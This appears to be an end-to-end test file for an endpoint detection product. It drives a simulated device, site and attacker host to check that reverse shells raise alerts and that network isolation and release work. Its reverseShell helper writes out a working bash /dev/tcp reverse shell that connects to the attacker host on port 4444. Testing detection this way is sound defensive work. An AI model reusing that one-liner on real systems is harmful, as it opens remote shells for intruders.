// The whole loop, with real processes, kernels, certificates and commands: a device, a site and an attacker, each a host of its own.
import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Incident } from "../../protocol/incident.ts";
import { createNetwork, type Network } from "./network.ts";
import { eventually, type Program, run, start } from "./program.ts";
import { createSite, DEVICE, type Site } from "./site.ts";

const root = process.getuid?.() === 0;
const PORT = 4444;
let network: Network;
let site: Site;
let agent: Program;
let receiver: Program;
const attackers: Program[] = [];

beforeAll(async () => {
  if (!root) return;
  network = createNetwork();
  site = await createSite(network);
  receiver = await site.startReceiver();
  await site.startBroker();
  await site.startDetector();
  agent = await site.startAgent();
  for (const host of [network.address.attacker.v4, network.address.attacker.v6]) {
    const attacker = start(network.on("attacker", ["bun", new URL("attacker.ts", import.meta.url).pathname, host, String(PORT)]));
    attackers.push(attacker);
    await attacker.line(/^listening/);
  }
}, 120_000);

afterAll(async () => {
  for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
  await site?.[Symbol.asyncDispose]();
  await network?.[Symbol.asyncDispose]();
});

/** A shell on the device that calls the attacker, runs a shell for it, and goes on listening to it. */
const reverseShell = (to: string, marker = "") =>
  start(
    network.on("device", [
      "bash",
      "-c",
      `: ${marker}; exec 3<>/dev/tcp/${to}/${PORT}; sh -c 'id -u' >&3; while read -r line <&3; do echo "$line"; done`,
    ]),
  );

const connects = async (to: string) =>
  (await run(network.on("device", ["timeout", "2", "bash", "-c", `exec 3<>/dev/tcp/${to}/${PORT}`]))).code === 0;

test.skipIf(!root)(
  "needs root: a reverse shell becomes alerts with its process tree, at the console's door and at the webhook",
  async () => {
    // The agent sees the whole machine: the marker tells our shell from anybody else's.
    const marker = randomBytes(4).toString("hex");
    await using shell = reverseShell(network.address.attacker.v4, marker);
    await shell.line(/^tick/);
    await attackers[0]!.line(/heard "0/);

    const chain = await eventually("the chain's alert", async () =>
      (await site.alerts()).find(
        (alert) => alert.rule.engine === "correlation" && /reverse/i.test(alert.rule.title) && JSON.stringify(alert.tree).includes(marker),
      ),
    );
    expect(chain.device).toBe(DEVICE);
    expect(chain.attack.techniques.some((id) => id.startsWith("T1059"))).toBe(true);
    expect(chain.tree.map((node) => node.exe.split("/").at(-1))).toEqual(expect.arrayContaining(["bash", "sh"]));
    expect(chain.summary).toContain(network.address.attacker.v4);
    const detail = JSON.parse(await site.picket("alert", chain.id, "--json"));
    expect(detail.events.map((event: { type: string }) => event.type)).toEqual(expect.arrayContaining(["process.exec", "net.connect"]));

    const { incident } = JSON.parse(await site.picket("incident", chain.incident!, "--json")) as { incident: Incident };
    expect(incident.story.join(" ")).toContain(network.address.attacker.v4);
    const delivered = await receiver.line(new RegExp(`"incident":\\{"id":"${incident.id}"`));
    const message: { type: string; data: { incident: Incident } } = JSON.parse(delivered);
    expect(message.type).toMatch(/^incident\.(created|updated)$/);
    expect(message.data.incident.device).toBe(DEVICE);
    expect(receiver.lines.filter((line) => line.startsWith("REFUSED"))).toEqual([]);
  },
);

test.skipIf(!root)(
  "needs root: isolation cuts what is open and what is new, in both families; MQTT goes on; release gives it back",
  async () => {
    await using open4 = reverseShell(network.address.attacker.v4);
    await using open6 = reverseShell(network.address.attacker.v6);
    await Promise.all([open4.line(/^tick/), open6.line(/^tick/)]);

    const isolated = JSON.parse(await site.picket("isolate", DEVICE, "--yes", "--reason", "test", "--json"));
    expect(isolated.command.result).toMatchObject({ ok: true, code: "done" });
    const heard = [open4.lines.length, open6.lines.length];
    expect(await Promise.all([connects(network.address.attacker.v4), connects(network.address.attacker.v6)])).toEqual([false, false]);
    // What was in flight may still have been read; the attacker said twenty more things meanwhile.
    expect(open4.lines.length - heard[0]!).toBeLessThan(3);
    expect(open6.lines.length - heard[1]!).toBeLessThan(3);
    const results = await eventually("the result as an event", async () => {
      const found = await site.events("response.result");
      return found.length > 0 && found;
    });
    expect(results.at(-1)?.body).toMatchObject({ act: "isolate", ok: true });
    expect(
      (
        await eventually(
          "the device says so at once",
          async () => {
            const device = await site.device();
            return device.status?.isolation.state === "isolated" && device;
          },
          5000,
        )
      ).presence,
    ).toBe("online");

    await agent.kill("SIGKILL");
    expect(await connects(network.address.attacker.v4)).toBe(false);
    agent = await site.startAgent();
    expect(await connects(network.address.attacker.v4)).toBe(false);
    await eventually("still isolated after kill -9", async () => (await site.device()).status?.isolation.state === "isolated");

    const released = JSON.parse(await site.picket("release", DEVICE, "--json"));
    expect(released.command.result).toMatchObject({ ok: true, code: "done" });
    expect(await Promise.all([connects(network.address.attacker.v4), connects(network.address.attacker.v6)])).toEqual([true, true]);
  },
  90_000,
);
